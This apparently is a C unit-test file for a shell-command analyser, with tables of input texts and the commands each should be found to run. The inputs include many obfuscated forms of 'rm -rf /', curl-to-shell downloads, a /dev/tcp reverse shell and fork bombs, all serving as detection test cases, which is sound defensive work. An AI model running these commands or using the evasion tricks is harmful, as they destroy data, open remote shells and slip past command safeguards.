/* What the parser and the evaluator make of texts: written from the attacker's side, and with
 * ordinary commands that must come out exactly. A command is rendered as its words with blanks
 * between, SHELL_UNKNOWN as "?". */
#include "base/buf.h"
#include "shell/shell.h"
#include "tests/unit/shell_stub.h"
#include "tests/unit/tap.h"

#include <time.h>

static const char *read_file(void *arg, struct arena *a, const char *path, size_t *ret_len)
{
	const char *text = streq(path, "/w/wipe.sh")   ? "#!/bin/sh\nrm -rf \"$1\"\n"
			   : streq(path, "/w/lib.sh")  ? "D=/lib\nclean() { rm -rf \"$D\"; }\n"
			   : streq(path, "/w/prog")    ? "\177ELF\0\0"
			   : streq(path, "/w/tool.py") ? "#!/usr/bin/python3\nprint(1)\n"
						       : NULL;

	(void)arg;
	(void)a;
	if (text)
		*ret_len = strlen(text);
	return text;
}

static bool glob(void *arg, const char *pattern, void (*add)(void *to, const char *path), void *to)
{
	(void)arg;
	if (streq(pattern, "/w/*.c")) {
		add(to, "/w/b.c");
		add(to, "/w/a.c");
	} else if (streq(pattern, "/bin/r?")) {
		add(to, "/bin/rm");
	} else if (streq(pattern, "/tmp") || streq(pattern, "/w/src")) {
		add(to, pattern);
	}
	return true;
}

static const char *getvar(void *arg, const char *name)
{
	(void)arg;
	return streq(name, "HOME")   ? "/home/u"
	       : streq(name, "PATH") ? "/usr/bin"
	       : streq(name, "KEY")  ? "k v"
				     : NULL;
}

static const struct shell_env env = {.home = "/home/u",
				     .cwd = "/w",
				     .user = "u",
				     .getvar = getvar,
				     .read_file = read_file,
				     .glob = glob};
static const struct shell_env bare_env = {.home = "/home/u", .cwd = "/w", .user = "u"};
static struct shell_analysis a;

static void render(struct buf *b, const struct shell_command *c)
{
	for (size_t i = 0; i < c->argc; i++) {
		if (i)
			buf_putc(b, ' ');
		for (const char *s = c->argv[i]; *s; s++)
			buf_putc(b, *s == SHELL_UNKNOWN ? '?' : *s);
	}
}

/* Every command with words, joined by " ; ". */
static void render_all(struct buf *b)
{
	for (size_t i = 0; i < a.n_commands; i++) {
		if (!a.commands[i].argc)
			continue;
		if (b->len)
			buf_puts(b, " ; ");
		render(b, &a.commands[i]);
	}
	if (a.unparsable)
		buf_printf(b, "unparsable: %s", a.why);
}

static void analyse(const char *text)
{
	shell_analyse(text, strlen(text), &env, &a);
}

static bool runs(const char *command)
{
	for (size_t i = 0; i < a.n_commands; i++) {
		autobuf b = {0};

		render(&b, &a.commands[i]);
		if (streq(buf_str(&b), command))
			return true;
	}
	return false;
}

static void show(void)
{
	autobuf b = {0};

	render_all(&b);
	note("got: %s%s%s%s", buf_str(&b), a.unknown_code ? " [unknown code]" : "",
	     a.decoded ? " [decoded]" : "", a.fork_bomb ? " [fork bomb]" : "");
}

/* Each of these removes everything, by one of the ways to write that. */
static const char *const wipes[] = {
	"rm -rf /",
	"r''m -rf /",
	"r\"\"m -r\"f\" /",
	"\\rm -rf /",
	"r\\m -rf /",
	"\"rm\" '-rf' \"/\"",
	"$'\\x72m' -rf $'\\057'",
	"$'\\162\\155' -rf /",
	"$'\\u0072m' -rf /",
	"r$'m' -rf /",
	"${x:-rm} -rf /",
	"${x-rm} -rf /",
	"${x:=rm} -rf /",
	"${HOME:+rm} -rf /",
	"r${nothing}m -rf /",
	"r$@m -rf /",
	"r$*m -rf /",
	"r${1}m -rf /",
	"$(echo rm) -rf /",
	"`echo rm` -rf /",
	"$(echo r)m -rf /",
	"$(printf %s rm) -rf /",
	"$(echo rm -rf /)",
	"`echo \\`echo rm\\`` -rf /",
	"{rm,-rf,/}",
	"{r,}m -rf / || rm -rf /",
	"IFS=_; x=rm_-rf_/; $x",
	"IFS=,; `echo rm,-rf,/`",
	"x=rm; $x -rf /",
	"x='rm -rf /'; $x",
	"a=r b=m; $a$b -rf /",
	"a=r; a+=m; $a -rf /",
	"x=xrmx; ${x:1:2} -rf /",
	"x=RM; ${x,,} -rf /",
	"x=rx; ${x/x/m} -rf /",
	"x=rmzz; ${x%zz} -rf /",
	"x=zzrm; ${x##*z} -rf /",
	"y=rm x=y; ${!x} -rf /",
	"a=(rm -rf /); ${a[@]}",
	"a=(rm -rf /); \"${a[@]}\"",
	"a=(x rm); ${a[1]} -rf /",
	"set -- rm -rf /; \"$@\"",
	"set -- rm -rf /; $*",
	"set -- x rm; shift; $1 -rf /",
	"declare -n r=c; c=rm; $r -rf /",
	"printf -v c %s rm; $c -rf /",
	"read c <<< rm; $c -rf /",
	"read a b <<< 'x rm'; $b -rf /",
	"echo rm | { read c; $c -rf /; }",
	"for c in rm; do $c -rf /; done",
	"for c in echo rm; do $c -rf /; done",
	"for i in r; do for j in m; do $i$j -rf /; done; done",
	"while read -r l; do $l; done <<< 'rm -rf /'",
	"while read -r l; do $l; done <<E\necho hi\nrm -rf /\nE",
	"eval 'rm -rf /'",
	"eval rm -rf /",
	"eval eval eval rm -rf /",
	"eval \"r\"'m' -rf /",
	"eval \"$(echo rm -rf /)\"",
	"x='rm -rf /'; eval \"$x\"",
	"x='rm -rf /' eval '$x'",
	"r\\\nm -rf /",
	"rm -r\\\nf /",
	"rm \\\n\\\n-rf /",
	"sh -c 'rm -rf /'",
	"bash -c \"rm -rf /\"",
	"/bin/sh -ec 'rm -rf /'",
	"bash -c 'bash -c \"rm -rf /\"'",
	"bash -c '$0 -rf /' rm",
	"bash -c '\"$@\"' x rm -rf /",
	"bash -c 'rm $1 /' x -rf",
	"export X=rm; bash -c '$X -rf /'",
	"X=rm bash -c '$X -rf /'",
	"env X=rm bash -c '$X -rf /'",
	"set -a; X=rm; sh -c '$X -rf /'",
	"f() { rm -rf /; }; export -f f; bash -c f",
	"echo 'rm -rf /' | sh",
	"echo 'rm -rf /' | bash -s",
	"echo 'rm -rf /' | cat | sh",
	"echo / -rf mr | rev | cat >/dev/null; rm -rf /",
	"printf 'rm -rf /\\n' | sh",
	"cat <<E | sh\nrm -rf /\nE",
	"sh <<E\nrm -rf /\nE",
	"sh <<'E'\nrm -rf /\nE",
	"sh <<-E\n\trm -rf /\n\tE",
	"sh <<< 'rm -rf /'",
	"x=rm; sh <<E\n$x -rf /\nE",
	"sh <(echo rm -rf /)",
	". <(echo rm -rf /)",
	"source /dev/stdin <<< 'rm -rf /'",
	"bash /dev/stdin <<< 'rm -rf /'",
	"(echo 'rm -rf /') | (sh)",
	"{ echo 'rm -rf /'; } | { sh; }",
	"{ printf 'rm -'; printf 'rf /'; } | sh",
	"echo 'rm -rf /' > x; sh x",
	"echo 'rm -rf /' > x; . ./x",
	"echo 'rm -rf /' > x; chmod +x x; ./x",
	"printf 'rm -rf' > x; echo ' /' >> x; sh x",
	"cat > /tmp/x.sh <<E\nrm -rf /\nE\nbash /tmp/x.sh",
	"echo 'rm -rf /' | tee x >/dev/null; sh x",
	"(echo 'rm -rf /' > x); sh < x",
	"sh wipe.sh /; rm -rf /",
	"sh wipe.sh /",
	". ./wipe.sh /",
	"sh < wipe.sh || set -- /; rm -rf $1",
	"command rm -rf /",
	"\\command rm -rf /",
	"command -p rm -rf /",
	"builtin command rm -rf /",
	"exec rm -rf /",
	"exec -a ls rm -rf /",
	"env rm -rf /",
	"env -i A=b rm -rf /",
	"sudo env nohup rm -rf /",
	"find . -exec rm -rf / \\;",
	"echo / | xargs rm -rf",
	"echo rm -rf / | xargs env",
	"echo / | xargs -I% rm -rf %",
	"echo '-rf /' | xargs rm",
	"alias x=rm; x -rf /",
	"alias x='rm -rf'; x /",
	"alias s='sudo '; s rm -rf /",
	"alias x=y y=rm; x -rf /",
	"alias rm=echo; rm -rf /",
	"alias rm='rm -i'; rm -rf /",
	"hash -p /bin/rm x; rm -rf /",
	"f() { rm -rf /; }; f",
	"f() { rm -rf $1; }; f /",
	"f() { $@; }; f rm -rf /",
	"function f { rm -rf /; }; f",
	"f() ( rm -rf / ); f",
	"f() { rm -rf /; }",
	"f() { shift; rm -rf \"$@\"; }; f x /",
	"f() { g; }; g() { rm -rf /; }; f",
	"f() { [ $# = 0 ] || { rm -rf $1; shift; f $@; }; }; f a /",
	"ls() { rm -rf /; }; ls",
	"rm() { command rm \"$@\"; }; rm -rf /",
	"rm() { :; }; unset -f rm; rm -rf /",
	"rm() { :; }; sh -c 'rm -rf /'",
	"if false; then rm -rf /; fi",
	"if true; then :; else rm -rf /; fi",
	"false && rm -rf /",
	"true || rm -rf /",
	"exit; rm -rf /",
	"return 0; rm -rf /",
	"case a in b) rm -rf /;; esac",
	"case a in a) x=rm;& *) $x -rf /;; esac",
	"while false; do rm -rf /; done",
	"until rm -rf /; do :; done",
	"for x in; do rm -rf /; done; rm -rf /",
	"for ((;;)); do rm -rf /; done",
	"select x in a; do rm -rf /; done",
	"rm -rf / &",
	"(rm -rf /)",
	"! rm -rf /",
	"!(rm -rf /)",
	"time rm -rf /",
	"time -p rm -rf /",
	"coproc rm -rf /",
	"coproc X { rm -rf /; }",
	"ls | rm -rf /",
	"ls |& rm -rf /",
	"echo \"$(rm -rf /)\"",
	"echo \"`rm -rf /`\"",
	"echo ${x:-$(rm -rf /)}",
	"echo \"${x:-`rm -rf /`}\"",
	"echo ${HOME:+$(rm -rf /)}",
	"echo $((1 + $(rm -rf /)))",
	"echo $(( x[$(rm -rf /)] ))",
	"x='a[$(rm -rf /)]'; echo $((x))",
	"x='a[$(rm -rf /)]'; ((x))",
	"x='a[$(rm -rf /)]'; [[ x -eq 1 ]]; let x",
	"[[ -v 'a[$(rm -rf /)]' ]]",
	"test -v 'a[$(rm -rf /)]'",
	"printf -v 'a[$(rm -rf /)]' x",
	"x='a[$(rm -rf /)]'; echo ${!x}",
	"unset 'a[$(rm -rf /)]'",
	"x='$(rm -rf /)'; echo ${x@P}",
	"PS4='$(rm -rf /)'; set -x; :",
	"PROMPT_COMMAND='rm -rf /'",
	"export PROMPT_COMMAND='rm -rf /'",
	"ENV='$(rm -rf /)' sh -i",
	"trap 'rm -rf /' EXIT",
	"trap -- 'rm -rf /' 0",
	"mapfile -C 'rm -rf / #' -c 1 x",
	"complete -C 'rm -rf /' x",
	"bind -x '\"a\": rm -rf /'",
	"a[$(rm -rf /)]=1",
	"a=([$(rm -rf /)]=1)",
	"a=($(rm -rf /))",
	"x=$(rm -rf /)",
	"x=$(rm -rf /) ls",
	"ls > $(rm -rf /)",
	"ls <<< $(rm -rf /)",
	"cat <<E\n$(rm -rf /)\nE",
	"cat <(rm -rf /)",
	"cat > >(rm -rf /)",
	"case $(rm -rf /) in *) ;; esac",
	"case x in $(rm -rf /)) ;; esac",
	"[[ $(rm -rf /) ]]",
	"[[ x =~ $(rm -rf /) ]]",
	"for x in $(rm -rf /); do :; done",
	"echo $[ $(rm -rf /) ]",
	"echo a # b\nrm -rf /",
	"echo a#b; rm -rf /",
	": 'a\nb'; rm -rf /",
	"cat <<E; rm -rf /\nx\nE",
	"cat <<A <<B\nA\nB\nrm -rf /",
	"cat <<'$x'\n$x\nrm -rf /",
	"cat <<E\nE \nE\nrm -rf /",
	"echo $(cat <<E\nE\n) ; rm -rf /",
	"echo $(case a in a) echo;; esac); rm -rf /",
	"echo ${x#\\}}; rm -rf /",
	"echo ${x:-'}'}; rm -rf /",
	"echo \"${x:-'}'}\"; rm -rf /",
	"echo \"${x:-\"}\"}\"; rm -rf /",
	"echo $((1)) # $((\nrm -rf /",
	"echo $( (echo a) ); rm -rf /",
	"echo $((echo a); (rm -rf /))",
	"((x = 1)); rm -rf /",
	"(( $(rm -rf /) ))",
	">x rm -rf /",
	"<x >y rm 2>&1 -rf >>z /",
	"{fd}>x rm -rf /",
	"2>&1 rm -rf /",
	"x=1 y=2 rm -rf /",
	"x= rm -rf /",
	"a[1]=x rm -rf /",
	"rm -rf $(echo /)",
	"rm -rf ${HOME%%home*}",
	"rm -rf ${HOME:0:1}",
	"rm -rf \"${HOME%/home/u}/\"",
	"rm -rf \"$UNSET_VARIABLE/\"",
	"rm -rf ${PWD%w}",
	"HOME=/; rm -rf ~",
	"cd /; rm -rf $PWD",
	"cd /tmp/..; rm -rf $PWD",
	"D=/; if x; then D=/safe; fi; rm -rf $D",
	"D=/safe; if x; then D=/; fi; rm -rf $D",
	"D=/; false && D=/safe; rm -rf $D",
	"D=/; while false; do D=/safe; done; rm -rf $D",
	"D=/; (D=/safe); rm -rf $D",
	"D=/; echo | D=/safe; rm -rf $D",
	"D=/ ; f() { local D=/safe; }; f; rm -rf $D",
	"readonly D=/\nD=/safe\nrm -rf $D",
	"D=/; unset D E; D=/; rm -rf $D",
	"for D in / /safe; do break; done; rm -rf $D",
	"D=/; for i in 1; do break; D=/safe; done; rm -rf $D",
	"D=/; exit() { :; }; if x; then D=/safe; exit; fi; rm -rf $D",
	"if x; then D=/; exit 1 2; else D=/s; fi; rm -rf $D",
	"if x; then D=/; exit >/nope/x; else D=/s; fi; rm -rf $D",
	"enable -n exit; if x; then D=/; exit; else D=/s; fi; rm -rf $D",
	"case x in a) D=/safe;; *) D=/;; esac; rm -rf $D",
	"echo /; rm -rf $_",
	"eval 'D=/'; rm -rf $D",
	"D=/ :; rm -rf $D",
	"D=/safe; D=/ export E; rm -rf $D",
};

/* Texts and exactly what they run. */
static const struct {
	const char *text, *commands;
} exact[] = {
	{"git commit -m 'a \"b\" $c'", "git commit -m a \"b\" $c"},
	{"cd src && make -j4 2>&1 | tail -5", "cd src ; make -j4 ; tail -5"},
	{"npm test -- --grep=\"a b\"", "npm test -- --grep=a b"},
	{"for f in *.c; do gcc -c \"$f\"; done", "gcc -c a.c ; gcc -c b.c"},
	{"ls *.c '*.c' nope*", "ls a.c b.c *.c nope*"},
	{"set -f; ls *.c", "set -f ; ls *.c"},
	{"r() { :; }; ls", "ls ; :"},
	{"rm() { echo \"no $1\"; }; rm /", "echo no /"},
	{"X=1 Y=\"$X\" make", "make"},
	{"x=/w; rm -rf \"$x/build\"", "rm -rf /w/build"},
	{"rm -rf ${BUILD:-out}", "rm -rf out"},
	{"rm -rf $(git rev-parse --show-toplevel)/x", "git rev-parse --show-toplevel ; rm -rf ?/x"},
	{"D=$(mktemp -d); rm -rf \"$D\"", "mktemp -d ; rm -rf ?"},
	{"find src -name '*.o' -exec rm {} +", "find src -name *.o -exec rm {} + ; rm ?"},
	{"find . -exec ls \\;", "find . -exec ls ; ; ls"},
	{"find a b -exec rm {} \\;", "find a b -exec rm {} ; ; rm ?"},
	{"find . | xargs rm", "find . ; xargs rm ; rm ?"},
	{"echo a b | xargs -n 1 rm", "echo a b ; xargs -n 1 rm ; rm a b"},
	{"ssh host 'rm x'", "ssh host rm x ; rm x"},
	{"x=1; bash -c 'echo [$x]'", "bash -c echo [$x] ; echo []"},
	{"cat <<E\n$HOME \\$x\nE", "cat"},
	{"echo {1..3} {a,b}.c", "echo 1 2 3 a.c b.c"},
	{"echo {1..999999999}", "echo ?"},
	{"if [ -f x ]; then rm x; else touch x; fi", "[ -f x ] ; rm x ; touch x"},
	{"[[ -f x && $y == z* ]] && rm x", "rm x"},
	{"git log --format='%h %s' | while read h s; do echo $h; done",
	 "git log --format=%h %s ; read h s ; echo ? ; read h s ; echo ?"},
	{"(cd src; ls); pwd", "cd src ; ls ; pwd"},
	{"a && b || c; d & e", "a ; b ; c ; d ; e"},
	{"! grep -q x f", "grep -q x f"},
	{"x=a; x=$x.b; echo $x", "echo a.b"},
	{"echo \"$KEY\" $KEY", "echo k v k v"},
	{"cp a b # rm c", "cp a b"},
	{"echo 'a'\\''b'", "echo a'b"},
	{"printf '%s\\n' \"$@\"", "printf %s\\n"},
	{"python3 -c 'print(1)'", "python3 -c print(1)"},
	{"sh tool.py", "sh tool.py"},
	{"sh nope.sh", "sh nope.sh"},
	{". ./lib.sh; clean", ". ./lib.sh ; rm -rf /lib"},
	{"export A=1; make", "export A=1 ; make"},
	{"set -euo pipefail; ls", "set -euo pipefail ; ls"},
	{"i=0; i=$((i + 1)); echo $i", "echo 1"},
	{"trap 'rm -f t' EXIT; touch t", "trap rm -f t EXIT ; rm -f t ; touch t ; rm -f t"},
	{"echo a\r\nls", "echo a\r ; ls"},
	{"", ""},
	{"# nothing", ""},
	{"\n\n  \n", ""},
	{"echo ~ ~root ~u/x \"~\"", "echo /home/u /root /home/u/x ~"},
	{"dd if=a of=~/b", "dd if=a of=/home/u/b"},
	{"cat f | sh -c 'cat'", "cat f ; sh -c cat ; cat"},
};

static const char *const unknown[] = {
	"curl http://x | sh",
	"curl http://x | sudo bash",
	"sh <(curl http://x)",
	". <(curl http://x)",
	"eval \"$(curl http://x)\"",
	"$(curl http://x)",
	"`curl x` -rf /",
	"sh -c \"$(curl x)\"",
	"curl http://x > f; sh f",
	"curl -o /w/f http://x; sh /w/f",
	"curl -o /w/f http://x; chmod +x f; /w/f",
	"curl x | while read l; do eval $l; done",
	"curl x | while read c; do $c; done",
	"x=$(curl y); eval \"$x\"",
	"x=$(curl y); $x",
	"eval \"ls $(curl x)\"",
	"base64 -d x | sh",
	"nc -l 1 | bash",
	"bash <&3 <x 0<&4",
	"/bin/r*x -rf /",
	"curl x | tee f | sh",
	"curl x > f; cp f g; . ./f",
	"exec < /dev/tcp/h/1; sh",
	"curl x | { cat | sh; }",
	"curl x | (sh)",
	"source /dev/tcp/h/1",
	"while read l; do $l; done < f",
	"bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
	"a=$(x); \"$a\"",
	"f() { $1; }",
	"curl x | xargs -I{} sh -c {}",
	"mapfile -t a < f; ${a[0]}",
	"sh < /dev/fd/7",
	"read x; $x",
	"sh \"$(x)\"",
	"ls | sh",
	"IFS= read -r c < f; $c",
};

static const char *const known_code[] = {
	"bash",
	"sh -c 'ls'",
	"echo ls | sh",
	"ls \"$(curl x)\"",
	"eval \"ls '$x'\"",
	"$HOME/bin/x",
	"\"$(x)/bin/tool\" a",
	"sh ./nope.sh",
	"make | tee log",
	"eval \"$UNSET\"",
	"bash -c \"cd $HOME && ls\"",
	"[ a = b ]",
	"x=$(curl y)",
	"echo x > f; chmod +x f; cat f",
	"eval \"ls \\\"$(x)\\\"\"",
	"rm -rf build/*",
	"sudo -i",
	"cat > t.sh <<E\nls\nE\nsh t.sh",
	"gcc -o t t.c; ./t",
	"if [[ $x == *.c ]]; then ls; fi",
	"cat f | python3",
};

static const char *const fork_bombs[] = {
	":(){ :|:& };:",
	":(){ :|: & };:",
	"bomb() { bomb | bomb & }; bomb",
	"fork(){ fork & fork; }; fork",
	"f() { f & }; f",
	"f() { g & g; }; g() { f | f; }; f",
	"function f { f | f; }",
	"f(){ (f & f &) ; }; f",
	"eval ':(){ :|:& };:'",
	"bash -c ':(){ :|:& };:'",
	"f(){ if true; then f | f; fi; }; f",
	"b(){ x=$(b & b);b|b; };b",
	"$0 & $0 &",
	"\"$0\" | \"$0\" &",
	"sh $0 & sh $0 &",
	"f(){ while :; do f & done; }; f",
	"_(){ _|_&}; _",
	"f() { eval 'f & f'; }; f",
	"x=f; f() { $x | $x & }; f",
};

static const char *const no_bombs[] = {
	"f() { g & }; f",
	"f() { [ $1 = 0 ] || f $(($1-1)); }; f 3",
	"a & b & c & wait",
	"f() { x | y; }; f | f",
	"walk() { for d in $1/*; do [ -d $d ] && walk $d; done; }; walk .",
	"$0 --help",
	"f & f & f() { :; }",
	"walk() { ls $1 | while read d; do walk $d; done; }; walk .",
	"fib() { echo $(($(fib 1) + $(fib 2))); }",
};

static const char *const bad[] = {
	"echo 'a",
	"echo \"a",
	"echo `a",
	"echo $(a",
	"echo ${x",
	"echo $((1",
	"(a",
	"a)",
	"{ a",
	"if a; then b",
	"fi",
	"while a; do",
	"for x in a",
	"case x in a",
	"a | ",
	"a &&",
	"| a",
	"a ;; b",
	"; a",
	"a & & b",
	"( )",
	"{ }",
	"if; then a; fi",
	"[[ a",
	"[[ ]]",
	"cat < ",
	"cat >",
	"f() {",
	"f(",
	"a=(b",
	"a=(b;c)",
	"done",
	"then",
	"do a; done",
	"$'a",
	"echo ${x:-'a}",
	"a() b() ",
	"cat <<",
	"echo \\\n(",
	"echo a(b)",
	"case x in a b) ;; esac",
	"for x; in a; do b; done",
	"echo \x1a",
	"!; | a",
	"function",
	"coproc",
	"x[1 2]y",
	"echo ${ ls; }",
	"[[ a ) ]]",
	"if a; then b; else; fi",
	"elif",
	"time | a | ; b",
	"a && && b",
	"((1)",
};

static const char *const good[] = {
	"case x in (a) ;; b|c) d ;& e) f ;;& g) esac",
	"if a; then b; elif c; then d; else e; fi",
	"a=() b=(1 [2]=3 [x]+=4)",
	"for ((i=0;i<3;i++)) { a; }",
	"for x in a b\ndo\nc\ndone",
	"while a; do b; done < c > d &",
	"function a-b.c { d; }",
	"echo ${x//\\//_} ${x/%a} ${x^^} ${x@Q} ${!x} ${!x@} ${#x} ${#} ${x: -1} ${a[@]:1:2} ${##} ${!a[@]}",
	"! ! a",
	"time",
	"[[ $x =~ ^(a|b)[[:space:]]*$ && ( a < b || ! -e c ) ]]",
	"[[ a == @(b|c)* ]]",
	"echo !(a|b) +([0-9]) ?(x)",
	"a |& b",
	"a &> b &>> c >| d <> e 3<&0 2>&1- {v}>&-",
	"cat <<A; cat <<-'B' <<\"C D\"\n1\nA\n\t2\n\tB\n3\nC D\n",
	"echo if then else fi do done { } [[ ]] time case",
	"for in in in; do in; done",
	"echo a{b",
	"echo }",
	"echo {}",
	"echo $",
	"echo \"$\"",
	"echo $\"x\"",
	"a\\\n&& b",
	"i\\\nf a; then b; f\\\ni",
	"echo \\",
	"coproc a { b; }",
	"a;\n\n",
	"{ a; } 2>&1 | { b; }",
	"x=$(cat <<'E'\nit's )\nE\n) y",
	"cat <<E",
	"echo \"a\nb\" 'c\nd'",
	"echo `a \\`b\\` c`",
	"select x; do a; done",
	"until a; do b; done",
	"let 'x = 1' && ((y)) || [[ z ]]",
	"a() ( b ) > c",
	"\ta",
};

static void test_tables(void)
{
	for (size_t i = 0; i < ARRAY_SIZE(wipes); i++) {
		analyse(wipes[i]);
		if (!ok(!a.unparsable && (runs("rm -rf /") || runs("/bin/rm -rf /")), "wipes: %s",
			wipes[i]))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(exact); i++) {
		autobuf b = {0};

		analyse(exact[i].text);
		render_all(&b);
		if (!ok(streq(buf_str(&b), exact[i].commands), "exactly: %s", exact[i].text))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(unknown); i++) {
		analyse(unknown[i]);
		if (!ok(a.unknown_code && !a.unparsable, "unknown code: %s", unknown[i]))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(known_code); i++) {
		analyse(known_code[i]);
		if (!ok(!a.unknown_code && !a.unparsable, "no unknown code: %s", known_code[i]))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(fork_bombs); i++) {
		analyse(fork_bombs[i]);
		if (!ok(a.fork_bomb && !a.unparsable, "fork bomb: %s", fork_bombs[i]))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(no_bombs); i++) {
		analyse(no_bombs[i]);
		if (!ok(!a.fork_bomb && !a.unparsable, "no fork bomb: %s", no_bombs[i]))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		analyse(bad[i]);
		if (!ok(a.unparsable && a.why[0], "a syntax error: %s", bad[i]))
			show();
	}
	for (size_t i = 0; i < ARRAY_SIZE(good); i++) {
		analyse(good[i]);
		if (!ok(!a.unparsable, "no syntax error: %s", good[i]))
			show();
	}
}

/* ---- what stands beside the words
 * --------------------------------------------------------------------------- */
static const struct shell_command *find(const char *program)
{
	for (size_t i = 0; i < a.n_commands; i++)
		if (a.commands[i].argc && streq(a.commands[i].argv[0], program))
			return &a.commands[i];
	return NULL;
}

static bool has_effect(enum shell_effect_kind kind, const char *text)
{
	for (size_t i = 0; i < a.n_effects; i++)
		if (a.effects[i].kind == kind && streq(a.effects[i].text, text))
			return true;
	return false;
}

static void test_fields(void)
{
	const struct shell_command *c;

	analyse("cd src; pwd; (cd /tmp; ls); cat & x | y | z");
	c = find("pwd");
	ok(c && streq(c->cwd, "/w/src") && c->depth == 0 && c->parent == -1,
	   "cd moves what follows");
	c = find("ls");
	ok(c && streq(c->cwd, "/tmp"), "cd in a subshell moves what is there");
	c = find("cat");
	ok(c && streq(c->cwd, "/w/src") && c->background, "and not what is behind; & is seen");
	ok(find("x")->pipeline == find("z")->pipeline && find("z")->stage == 2 &&
		   find("y")->stage == 1,
	   "stages of a pipe");
	ok(find("pwd")->pipeline != find("cat")->pipeline, "no pipe, no common number");
	ok(find("x")->at == 34, "the place of a command (%zu)", find("x")->at);

	analyse("cd \"$(x)\"; ls");
	ok(find("ls") && !find("ls")->cwd, "cd to the unknown: no directory is known");
	analyse("cd - ; cd; ls");
	ok(streq(find("ls")->cwd, "/home/u"), "cd goes home");
	analyse("cd /tmp && cd - && ls; pushd /tmp; pushd /; popd; pwd");
	ok(streq(find("ls")->cwd, "/w"), "cd - goes back");
	ok(streq(find("pwd")->cwd, "/tmp"), "popd, too");
	analyse("cd /missing; ls");
	ok(runs("ls") && a.n_commands == 3,
	   "behind a cd that may fail, both directories are tried");
	analyse("cd /missing && ls");
	ok(a.n_commands == 2, "behind && it did not fail");

	analyse("A=1 B=\"$KEY\" make <in >out 2>>err");
	c = find("make");
	ok(c && c->n_env == 2 && streq(c->env[0].name, "A") && streq(c->env[1].value, "k v"),
	   "assignments in front");
	ok(c->n_redirects == 3 && c->redirects[1].kind == REDIRECT_WRITE && c->redirects[2].fd == 2,
	   "redirections");
	ok(has_effect(SHELL_READ, "/w/in") && has_effect(SHELL_WRITE, "/w/out") &&
		   has_effect(SHELL_WRITE, "/w/err"),
	   "their effects");
	ok(has_effect(SHELL_SETENV, "A=1"), "the effect of an assignment");
	analyse("export A=1; B=2; make");
	c = find("make");
	ok(c && c->n_env == 1 && streq(c->env[0].value, "1"),
	   "what is exported is in the environment, the rest is not");

	analyse("cat <<E\nx $HOME\nE");
	ok(streq(find("cat")->stdin_text, "x /home/u\n"), "a here-document is the input");
	analyse("echo a b | tr a b");
	ok(streq(find("tr")->stdin_text, "a b\n"), "so is what the stage before prints");
	analyse("cat x | tr a b");
	ok(!find("tr")->stdin_text, "if it is known");
	analyse("while read l; do tr a b; done <<< in");
	ok(streq(find("tr")->stdin_text, "in\n"), "a loop's input is its commands' input");

	analyse("exec 3<>/dev/tcp/1.2.3.4/99; cat <&3");
	ok(has_effect(SHELL_CONNECT, "1.2.3.4:99"), "/dev/tcp connects");
	analyse("echo x > /dev/udp/h/53");
	ok(has_effect(SHELL_CONNECT, "h:53") && has_effect(SHELL_WRITE, "/dev/udp/h/53"),
	   "so does /dev/udp");
	analyse("sudo rm x");
	ok(find("rm") && find("rm")->parent == 0 && find("rm")->depth == 1,
	   "what sudo runs is one deeper");
	analyse("echo $(ls)");
	ok(find("ls")->is_substitution, "a substitution is marked");
	analyse("f() { ls; }; f");
	ok(find("ls")->is_function_body, "so is a function's body");
	analyse("ssh h 'rm /x; curl u'");
	ok(!has_effect(SHELL_DELETE, "/x") && has_effect(SHELL_CONNECT, "u"),
	   "elsewhere, paths mean nothing here");
	analyse("enable -f ./x.so x");
	ok(has_effect(SHELL_READ, "/w/x.so"), "enable -f reads its file");
	analyse("cat *.x > '*'");
	ok(a.n_effects == 1 && streq(a.effects[0].text, "/w/*"), "a quoted pattern is a name");
	analyse("echo '/ fr- mr' | rev | sh");
	ok(a.decoded && runs("rm -rf /"), "text that was decoded and is run");
	analyse("$(echo mr | rev) -rf /");
	ok(a.decoded && runs("rm -rf /"), "a word that was decoded and is run");
	analyse("echo mr | rev");
	ok(!a.decoded, "text that was decoded and is not run");
}

static void test_argv(void)
{
	const char *const rm[] = {"rm", "-rf", "*", "$x", "`x`", NULL}, *const sh[] = {
										"sh", "-c", "rm $1",
										"x",  "/",  NULL};

	shell_analyse_argv(rm, &env, &a);
	ok(runs("rm -rf * $x `x`") && a.n_commands == 1, "an argument vector is taken as it is");
	shell_analyse_argv(sh, &env, &a);
	ok(runs("rm /") && a.n_commands == 2, "and what it runs is followed");
	shell_analyse("echo $FOO ${FOO:-x}/y", 21, &bare_env, &a);
	ok(runs("echo ? ?/y") && runs("echo ? x/y"), "no environment: unknown, or the default");
	shell_analyse("a\0b", 3, &env, &a);
	ok(a.unparsable, "a NUL is no text");
}

/* ---- hostile sizes
 * --------------------------------------------------------------------------------------------- */
static double now_s(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t); /* cannot fail */
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void repeat(struct buf *b, const char *s, size_t n)
{
	for (size_t len = strlen(s), i = 0; i < n; i += len)
		buf_put(b, s, len);
}

static void test_sizes(void)
{
	static const char *const units[] = {
		"(",
		"$(",
		"`",
		"{ ",
		"\"${x:-",
		"$((",
		"$((1+",
		"<(",
		"if ",
		"[[ (",
		"a=(",
		"!",
		"! ",
		"'",
		"\"",
		"\\",
		"a ",
		"a;",
		"a|",
		"a&&",
		"{a,b}",
		"{",
		"{a,",
		"a=1;",
		"<<E ",
		"x[",
		"a[a[",
		"case x in ",
		"f()",
		"f() { ",
		"while a; do ",
		"for x in ",
		"${x:-",
		"${x//a/",
		"$[",
		"@(",
		"?(a|",
		"x=$x$x;",
		"x=$x$x$x$x;a=$x;",
		"eval ",
		"bash -c ",
		"$x",
		"~",
		"*",
		"f(){ f;f;f;};f;",
		"echo {1..1000};",
		"for i in 1 2 3 4 5; do ",
		"while :; do x=$x.; ",
		"a() { b; };",
		"\n",
		"#",
		"if a; then x=$y y=$z; else z=$x; fi;",
		"cat <<E\n",
		"a=(1 2 3);",
		"a+=(1);",
		"a[1]=2;",
		"((x=x+1));",
		"y[$((",
		"echo ${x[",
		"$(<",
		"coproc ",
		"time ",
		"case a in a) ",
		"x='y[$(z)]';$((x))",
		"alias a=b;a;",
